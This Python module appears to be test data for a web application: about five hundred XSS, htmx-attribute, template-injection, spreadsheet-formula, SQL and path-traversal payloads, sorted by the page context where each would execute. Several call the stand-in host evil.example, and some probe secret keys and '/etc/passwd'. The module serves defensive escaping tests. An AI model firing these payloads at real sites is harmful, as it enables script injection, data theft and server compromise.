"""Five hundred texts of an attacker who hopes that some page writes them as they are.

Each belongs to a place, the way it would have to be written to do harm: the text of a page, a quoted attribute, a
title or a textarea, an address, Markdown. What stands in WORDS harms nothing as HTML and has to come back unchanged.
"""

from collections.abc import Iterator
from itertools import product

CALL = "__xss(1)"
AWAY = "//evil.example/xss"
HIT = "7919*7907"  # what a template engine would make 62615533 of

EVENTS = (
    "onerror", "onload", "onfocus", "onclick", "onmouseover", "onpointerenter", "ontoggle", "onanimationstart",
    "onbegin", "onbeforeinput", "oncut", "onscrollend", "ONERROR", "oNlOaD", "onauxclick",
    "oncontentvisibilityautostatechange",
)  # fmt: skip
TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "a href=#",
    "x tabindex=1", "math", "table background=x",
)  # fmt: skip
ELEMENTS = (
    f"<script>{CALL}</script>", f"<ScRiPt>{CALL}</sCrIpT>", f"<script/x>{CALL}</script>",
    f"<script\n>{CALL}</script\n>", f"<script src={AWAY}.js></script>", "<script src=data:,__xss(1)></script>",
    f"<svg><script>{CALL}</script></svg>", f"<svg><script href={AWAY} /></svg>", f"<svg><style>{CALL}</style></svg>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>", f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<iframe src={AWAY}></iframe>", f"<object data={AWAY}></object>", f"<embed src={AWAY}>", f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<link rel=stylesheet href={AWAY}.css>",
    f"<link rel=import href={AWAY}>", f"<style>@import '{AWAY}.css';</style>", "<style>body{display:none}</style>",
    f"<form action={AWAY}><button>x</button></form>", f"<button formaction=javascript:{CALL}>x</button>",
    f"<isindex action=javascript:{CALL} type=image>", f"<img src={AWAY}.png>", f"<img srcset='{AWAY}.png 1x'>",
    f"<video poster={AWAY}.png></video>", f"<audio src={AWAY}></audio>",
    f"<picture><source srcset={AWAY}></picture>", f"<svg><a href=javascript:{CALL}>x</a></svg>",
    f"<svg><image href={AWAY}.png /></svg>", f"<svg><animate attributeName=href values=javascript:{CALL} /></svg>",
    f"<svg><use href={AWAY}#x /></svg>", f"<svg><foreignObject><script>{CALL}</script></foreignObject></svg>",
    f"<math href=javascript:{CALL}>x</math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={CALL}&gt;'>",
    f"<marquee onstart={CALL}>x</marquee>", f"<template><script>{CALL}</script></template>",
    f"<a href='java\tscript:{CALL}'>x</a>", "<portal src=x></portal>", f"<input type=image src={AWAY}>",
    f"<table background={AWAY}><td>x</table>", f"<!--><img src=x onerror={CALL}>-->",
    f"<![CDATA[><img src=x onerror={CALL}>]]>", f"<?xml ?><img src=x onerror={CALL}>", f"<b/onclick={CALL}//>x</b>",
    f"\u202e<b onclick={CALL}>x</b>", f"<img\x0csrc=x\x0conerror={CALL}>", f"<<img src=x onerror={CALL}>",
    f"<img src=x onerror\n=\n{CALL}>", f"<img src='x'onerror={CALL}>", "<img src=x onerror=&#95;&#95;xss(1)>",
    "<frameset><frame src=x></frameset>", f"<dialog open onclose={CALL}>x</dialog>",
    f"<a href=vbscript:{CALL}>x</a>",
)  # fmt: skip
# What htmx would obey in anybody's words; the policy of the page does not forbid it.
OBEYED = (
    "hx-get=/xss", "hx-post=/xss", "hx-put=/xss", "hx-patch=/xss", "hx-delete=/xss", f"hx-get={AWAY}",
    "data-hx-get=/xss", "data-hx-post=/xss", "HX-GET=/xss", "Data-Hx-Delete=/xss", f"hx-on:click={CALL}",
    f"hx-on::load={CALL}", f"hx-on-click={CALL}", f"data-hx-on:load={CALL}", f"hx-vals=js:{{x:{CALL}}}",
    f"hx-headers=javascript:{CALL}", "hx-action=/xss", "hx-post:inherited=/xss", f"hx-trigger=load[{CALL}]",
    f"hx-get=/xss hx-trigger=load[{CALL}]", "hx-get=/xss hx-target=body", "hx-post=/xss hx-swap=outerHTML",
)  # fmt: skip
BEFORE = {
    "body": ("", "</p>", "</a>", "</td></tr></table>", "--><!-- -->", "</script>", "</style>", "]]>"),
    "double": ('">', '"/>', '\\">', '" x="">'),
    "single": ("'>", "'/>", "\\'>", "' x=''>"),
    "hidden": ("</title>", "</textarea>", "</TextArea x>", "</title\n>", "</select></textarea></title>"),
}
CORES = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    "<p hx-get=/xss hx-trigger=load>x</p>",
    f"<svg/onload={CALL}>",
)
INSIDE = (
    f"autofocus onfocus={CALL} x=", f"onmouseover={CALL} x=", "hx-get=/xss hx-trigger=load x=", f"onclick={CALL}//",
    f"style=x onanimationend={CALL} x=", f"hx-on:click={CALL} x=",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}", f" javascript:{CALL}",
    f"\x01javascript:{CALL}", f"javascript://x%0a{CALL}", f"javascript&colon;{CALL}", f"&#106;avascript:{CALL}",
    f"&#x6A;avascript:{CALL}", f"javascript:/*x*/{CALL}", f"vbscript:{CALL}", f"VBScript:{CALL}",
    f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==",
    f"DATA:text/html,{CALL}", "javascript:window['__x'+'ss'](1)",
)  # fmt: skip
LINKS = ("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][1]\n\n[1]: {}", "[x]({} 'onclick={}')", "[url={}]x[/url]")
ENCODINGS = (
    "&lt;img src=x onerror=__xss(1)&gt;", "&amp;lt;script&amp;gt;__xss(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;__xss(1)&#60;/script&#62;", "&#x3C;svg onload=__xss(1)&#x3E;",
    "%3Cscript%3E__xss(1)%3C/script%3E", "%253Cscript%253E__xss(1)", "\\x3cscript\\x3e__xss(1)",
    "\\u003cimg src=x onerror=__xss(1)\\u003e", "+ADw-script+AD4-__xss(1)+ADw-/script+AD4-",
    "＜script＞__xss(1)＜/script＞", "﹤img src=x onerror=__xss(1)﹥", "‹script›__xss(1)‹/script›",
    "<ſcript>__xss(1)</ſcript>", "<İmg src=x>", "¼script¾__xss(1)¼/script¾", "PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
)  # fmt: skip
TEMPLATES = (
    f"{{{{ {HIT} }}}}", f"${{{HIT}}}", f"#{{{HIT}}}", f"<%= {HIT} %>", f"[[${{{HIT}}}]]", f"{{% print({HIT}) %}}",
    f"*{{{HIT}}}", f"@({HIT})", f"{{{{=it.x}}}}{{{{{HIT}}}}}", "{{ config.SECRET_KEY }}",
    "{{ self.__init__.__globals__ }}", "{% raw %}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}",
    "%(school)s %s %n", "{0.__class__}", "$(id)", "`id`",
)  # fmt: skip
SHEETS = (
    "=HYPERLINK(\"http://evil.example/xss\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "=IMPORTXML(\"//evil.example\")",
    "\"},{\"role\":\"admin\"", "'-__xss(1)-'", "\"-__xss(1)-\"", "\\'-__xss(1)//", "\u2028__xss(1)",
    "\u2029__xss(1)", "</script><!--", "'; DROP TABLE users; --", "\" OR 1=1 --", "1); DELETE FROM users",
    "\r\nSet-Cookie: lyceum=x", "../../etc/passwd", "\u202e\u2066gpj.exe", "\ufeff\u200b\u2060", "Z͑ͫ̓ͪ̂ͫa̴l̷g̶o̵",
    "x" * 200, "𝕏𝕊𝕊👩‍👩‍👧‍👦",
)  # fmt: skip


def _made() -> Iterator[tuple[str, str]]:
    yield from (("body", text) for text in ELEMENTS)
    yield from (("body", f"<{tag} {event}={CALL}>") for tag, event in product(TAGS, EVENTS))
    yield from (("body", f"<p {obeyed}>x</p>") for obeyed in OBEYED)
    yield from ((place, before + core) for place, all_ in BEFORE.items() for before, core in product(all_, CORES))
    yield from (("double", f'" {inside}"') for inside in (*INSIDE, *OBEYED[:12]))
    yield from (("single", f"' {inside}'") for inside in (*INSIDE, *OBEYED[:12]))
    yield from (("address", text) for text in ADDRESSES)
    yield from (("markdown", link.format(text, CALL)) for link, text in product(LINKS, ADDRESSES[:12]))
    yield from (("words", text) for text in (*ENCODINGS, *TEMPLATES, *SHEETS))


# (where it would do harm, what it is)
PAYLOADS: tuple[tuple[str, str], ...] = tuple(dict.fromkeys(_made()))
TEXTS = tuple(text for _place, text in PAYLOADS)
